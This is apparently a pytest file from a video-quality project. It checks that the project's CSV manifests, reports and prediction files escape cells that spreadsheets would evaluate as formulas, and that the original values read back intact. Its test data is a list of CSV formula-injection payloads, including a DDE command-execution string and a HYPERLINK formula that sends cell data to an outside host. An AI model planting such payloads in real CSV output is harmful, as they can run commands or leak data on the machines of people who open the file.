"""Hardening, CSV formula injection: every CSV the project writes escapes cells a spreadsheet
would evaluate, and our own readers give the original values back (docs/hardening.md).

One test per writer: manifests (``vqa_core.manifest.write_manifest``, which the synthetic
datasets and ``vqa dataset make`` use; ``vqa extract-folder``'s folder manifest),
``predictions.csv`` and ``comparison.csv`` (``regressors.report``) and ``vqa predict``'s scores.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from vqa_core import csvsafe
from vqa_core.manifest import read_manifest, write_manifest

# What a hostile-input review put into video ids and run names.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tnext",
    "\rreturn",
    "'quoted",
    "''=double",
]
PLAIN = ["clip 01", "-0.25", "+3", "1e5", "a=b", "x-y", ""]


def raw_cells(path: Path) -> list[list[str]]:
    """The cells as a plain CSV reader (or a spreadsheet) sees them: no unescaping."""
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def assert_spreadsheet_safe(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(csvsafe.FORMULA_TRIGGERS) or csvsafe._NUMBER.fullmatch(cell), cell


# ---- the helper --------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE + PLAIN)
def test_escape_and_unescape_round_trip(value):
    escaped = csvsafe.escape_cell(value)
    assert_spreadsheet_safe([escaped])
    assert csvsafe.unescape_cell(escaped) == value
    assert (escaped == value) == (value in PLAIN)


@given(st.text())
def test_any_text_round_trips_through_our_writer_and_reader(text):
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow([text, 1.5, -2, None])
    (row,) = list(csvsafe.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert row == [text, "1.5", "-2", ""]
    (raw,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert_spreadsheet_safe(raw[:1])


def test_numbers_are_never_escaped_and_dict_readers_unescape_names_and_values():
    buffer = io.StringIO()
    writer = csvsafe.DictWriter(buffer, fieldnames=["=name", "value"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"=name": "@x", "value": -0.5})
    assert buffer.getvalue() == "'=name,value\n'@x,-0.5\n"
    assert list(csvsafe.DictReader(io.StringIO(buffer.getvalue()))) == [{"=name": "@x", "value": "-0.5"}]


# ---- manifests ---------------------------------------------------------------------------------


def test_write_manifest_escapes_and_read_manifest_round_trips(tmp_path):
    """Also the synthetic datasets' and ``vqa dataset make``'s manifests (they use write_manifest).
    Values starting with a tab or CR are left out: the manifest reader trims spaces around values."""
    ids = [v for v in HOSTILE if not v[0].isspace()] + ["clip 01", "-0.25"]
    rows = [
        {"video_id": v, "path": Path(tmp_path / f"v{i}.mp4"), "mos": -1.5 + i, "group": v} for i, v in enumerate(ids)
    ]
    path = write_manifest(tmp_path / "m.csv", rows)
    raw = raw_cells(path)
    assert raw[1][0] == "'=cmd|' /C calc'!A0" and raw[-1][0] == "-0.25" and raw[1][2] == "-1.5"
    for row in raw[1:]:
        assert_spreadsheet_safe(row)
    entries = read_manifest(path)
    assert [e.video_id for e in entries] == ids
    assert [e.group for e in entries] == ids
    assert [e.mos for e in entries] == [-1.5 + i for i in range(len(ids))]
    assert [e.path for e in entries] == [tmp_path / f"v{i}.mp4" for i in range(len(ids))]


def test_extract_folder_manifest_escapes_file_names_and_reads_back(tmp_path):
    from flows.extract_plan import write_folder_manifest

    folder = tmp_path / "videos"
    folder.mkdir()
    names = ["=1+2.mp4", "@evil.mp4", "-x.mp4", "plain.mp4"]
    for name in names:
        (folder / name).write_bytes(b"\0")
    out, count = write_folder_manifest(folder, out=tmp_path / "folder.csv")
    assert count == 4
    raw = raw_cells(out)
    assert {row[0] for row in raw[1:]} == {"'=1+2.mp4", "'@evil.mp4", "'-x.mp4", "plain.mp4"}
    assert sorted(e.video_id for e in read_manifest(out)) == sorted(names)
    assert {e.path.name for e in read_manifest(out)} == set(names)


# ---- reports -----------------------------------------------------------------------------------


def _evaluation(n: int):
    from regressors.protocols import EvaluationResult

    rng = np.random.default_rng(0)
    mos = rng.uniform(1, 5, n)
    predictions = mos + rng.normal(0, 0.4, n)
    predictions[0] = -0.75  # a negative score stays a number
    per_split = [{"srcc": 0.8, "krcc": 0.6, "plcc": 0.8, "plcc_raw": 0.8, "rmse": 0.4, "split": 0}]
    median = {k: per_split[0][k] for k in ("srcc", "krcc", "plcc", "plcc_raw", "rmse")}
    return EvaluationResult(
        per_split=per_split, median=median, predictions=predictions, n_tested=np.ones(n, dtype=int)
    ), mos


def test_predictions_csv_escapes_video_ids(tmp_path):
    from regressors.report import write_report

    ids = HOSTILE + ["clip 01", "clip 02"]
    result, mos = _evaluation(len(ids))
    paths = write_report(tmp_path / "run", result, video_ids=ids, mos=mos, settings={"head": "svr"})
    raw = raw_cells(paths["predictions"])
    assert raw[0] == ["video_id", "mos", "prediction", "n_tested"]
    assert raw[1][:3] == ["'=cmd|' /C calc'!A0", repr(float(mos[0])), "-0.75"]
    for row in raw[1:]:
        assert_spreadsheet_safe(row)
    with open(paths["predictions"], newline="", encoding="utf-8") as fh:
        rows = list(csvsafe.DictReader(fh))
    assert [r["video_id"] for r in rows] == ids
    assert [float(r["prediction"]) for r in rows] == result.predictions.tolist()


def test_comparison_csv_escapes_run_names_and_features(tmp_path):
    from regressors.report import write_comparison

    rows = [
        {
            "run": '=HYPERLINK("http://x.example","ok")',
            "head": "svr",
            "features": "@resnet50",
            "protocol": "fmc",
            "n_videos": 12,
            "srcc": -0.1,
            "krcc": 0.2,
            "plcc": 0.3,
            "plcc_raw": 0.3,
            "rmse": 0.5,
            "scatter": str(tmp_path / "scatter.png"),
        }
    ]
    paths = write_comparison(tmp_path / "cmp", rows)
    raw = raw_cells(paths["csv"])
    assert raw[1][:3] == ['\'=HYPERLINK("http://x.example","ok")', "svr", "'@resnet50"]
    assert raw[1][5] == "-0.1"
    with open(paths["csv"], newline="") as fh:
        (back,) = list(csvsafe.DictReader(fh))
    assert back["run"] == rows[0]["run"] and back["features"] == "@resnet50"


def test_vqa_predict_scores_escape_video_ids(tmp_path):
    from feature_store import FeatureStore
    from flows.fit import feature_set_identity, predict_job
    from regressors.persistence import save_head
    from regressors.svr import SVRHead

    store = FeatureStore(tmp_path / "store")
    set_id = store.ensure_feature_set(spec={"name": "probe", "dims": 3}, sampling={"strategy": "uniform", "value": 2})
    ids = [v for v in HOSTILE if not v[0].isspace()]  # manifest values are trimmed
    rng = np.random.default_rng(1)
    for video_id in ids:
        store.write_video(
            set_id, video_id, rng.normal(size=(2, 3)), provenance={"set": {}, "video": {"source": f"{video_id}.mp4"}}
        )
    head = SVRHead().fit(store.read_videos(set_id, ids), rng.normal(size=len(ids)))
    save_head(head, tmp_path / "model", feature_info={"feature_sets": [feature_set_identity(store, set_id)]})
    manifest = write_manifest(tmp_path / "m.csv", [{"video_id": v, "path": f"v{i}.mp4"} for i, v in enumerate(ids)])
    out = predict_job(model=tmp_path / "model", store=store.path, manifest=manifest, out=tmp_path / "scores.csv")
    raw = raw_cells(out)
    assert [row[0] for row in raw[1:]] == [csvsafe.escape_cell(v) for v in ids]
    for row in raw[1:]:
        assert_spreadsheet_safe(row)
    with open(out, newline="") as fh:
        assert [r["video_id"] for r in csvsafe.DictReader(fh)] == ids
